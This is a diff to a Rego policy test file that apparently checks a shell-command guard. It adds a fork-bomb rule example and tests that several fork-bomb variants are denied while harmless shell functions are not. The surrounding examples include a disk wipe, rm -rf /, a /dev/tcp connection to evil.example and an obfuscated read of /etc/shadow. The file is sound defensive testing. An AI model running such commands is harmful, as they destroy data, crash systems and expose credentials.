@@ -407,6 +407,7 @@ exec_examples := {
 	"exec.disk_wipe": "mkfs.xfs /dev/sdc",
 	"exec.raw_socket": "cat < /dev/tcp/evil.example/80",
 	"exec.constructed_text": "cat $(base64 -d <<< L2V0Yy9zaGFkb3c=)",
+	"exec.fork_bomb": ":(){ :|:& };:",
 	"exec.rm_root": "rm -rf /",
 	"exec.recursive_delete": "rm -rf target",
 	"exec.kubectl_delete": "kubectl delete deployment api",
@@ -683,5 +684,16 @@ test_programs_elsewhere_and_variable_setters_are_not_read_only if {
 	}
 	every cmd in ["/usr/bin/cat notes.txt", "/bin/ls -la", "/usr/local/bin/rg TODO", "read -r line <<< x", "printf -v out %s x", "tree -L 2", "file notes.txt"] {
 		decide(exec_call(cmd, "production")).effect == "allow"
+	}
+}
+
+test_fork_bombs_are_denied if {
+	every cmd in [":(){ :|:& };:", "bomb(){ bomb | bomb & }; bomb", "f() { f & f; }; f"] {
+		d := decide(exec_call(cmd, "development"))
+		fired(d, "exec.fork_bomb")
+		d.effect == "deny"
+	}
+	every cmd in ["f() { ls; }; f", "walk() { for d in \"$@\"; do ls \"$d\"; done; }; walk src"] {
+		not "exec.fork_bomb" in exec_rules_for(cmd, "development")
 	}
 }
